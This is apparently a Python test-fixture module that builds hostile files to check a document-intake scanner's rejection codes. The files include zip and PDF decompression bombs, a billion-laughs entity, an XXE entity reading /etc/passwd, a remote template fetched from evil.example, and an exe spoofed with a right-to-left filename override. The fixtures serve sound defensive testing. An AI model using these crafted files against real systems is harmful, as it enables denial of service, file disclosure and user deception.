"""Files made to harm whoever opens them: real formats, small on the wire."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Dictionary, Name, Pdf, Stream

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(text: str = "Справка", prolog: str = "", **parts: bytes) -> bytes:
    body = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    document = f'<?xml version="1.0"?>{prolog}<w:document {W}><w:body>{body}</w:body></w:document>'
    named = {name.replace("__", "/"): data for name, data in parts.items()}
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": document.encode(), **named})


def a_pdf(**root: object) -> Pdf:
    document = Pdf.new()
    document.add_blank_page()
    for name, value in root.items():
        document.Root[f"/{name}"] = value
    return document


def saved(document: Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **how)
    return out.getvalue()


def pdf_with_script() -> bytes:
    return saved(a_pdf(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)")))


def locked_pdf() -> bytes:
    return saved(a_pdf(), encryption=pikepdf.Encryption(owner="a", user="b"))


def pdf_bomb(unpacked: int) -> bytes:
    """A page whose content is packed twice: a few kilobytes that grow to `unpacked` bytes of drawing."""
    packer = zlib.compressobj(9)
    once = (
        b"".join(packer.compress(b"q 0 0 m Q " * 100_000) for _ in range(unpacked // 1_000_000))
        + packer.flush()
    )
    document = a_pdf()
    stream = Stream(document, b"")
    stream.write(zlib.compress(once, 9), filter=[Name.FlateDecode, Name.FlateDecode])
    document.pages[0].Contents = document.make_indirect(stream)
    return saved(document, compress_streams=False)


def pdf_loop() -> bytes:
    """A tree of pages that contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"
        b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is huge, with next to nothing behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def locked_zip() -> bytes:
    """A zip whose member says that it is encrypted."""
    data = bytearray(zipped({"a.txt": b"secret"}))
    data[6] |= 1
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def bomb_in_zip() -> bytes:
    return zipped({"zero": b"\0" * 30_000_000})


ENTITIES = (
    '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
REMOTE = b'<r Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'

QUOTED = b"<r Type='x/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode = 'External'/>"
UNSEEN = "</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>Физика, 300 часов, экзамен, 5</w:t></w:r><w:r><w:t>"


def tiff(*entries: tuple[int, int], following: int = 0) -> bytes:
    """A TIFF of one page with these 4-byte tags; `following` is where it says that its next page stands."""
    tags = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    return b"II*\x00" + struct.pack("<IH", 8, len(entries)) + tags + struct.pack("<I", following)


# name, bytes, the code that the office must be told
FILES: list[tuple[str, bytes, str]] = [
    ("zip-bomb.zip", bomb_in_zip(), "too_large_inside"),
    ("nested.zip", zipped({"inner.zip": bomb_in_zip(), "a.txt": b"a"}), ""),
    ("locked.zip", locked_zip(), "encrypted_file"),
    ("quoted.docx", docx(**{"word___rels__settings.xml.rels": QUOTED}), "remote_content"),
    ("unseen.docx", docx(UNSEEN), "hidden_text"),
    (
        "huge.tiff",
        tiff((256, 60_000), (257, 60_000), (258, 1), (259, 8), (273, 8), (279, 9)),
        "too_many_pixels",
    ),
    ("loop.tiff", tiff((256, 10), following=8), "broken_file"),
    ("huge.png", png_of(60_000, 60_000), "too_many_pixels"),
    ("script.pdf", pdf_with_script(), "active_content"),
    ("locked.pdf", locked_pdf(), "encrypted_file"),
    ("loop.pdf", pdf_loop(), "broken_file"),
    ("macros.docm", docx(**{"word__vbaProject.bin": OLE}), "active_content"),
    ("template.docx", docx(**{"word___rels__settings.xml.rels": REMOTE}), "remote_content"),
    ("entities.docx", docx("&c;", ENTITIES), "doctype_in_file"),
    ("xxe.docx", docx("&x;", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "doctype_in_file"),
    ("old.doc", OLE, "encrypted_or_old_office_file"),
    ("spra\u200bvka\u202efdp.exe", b"MZ\x90\x00" + bytes(100), "unknown_kind_of_file"),
]
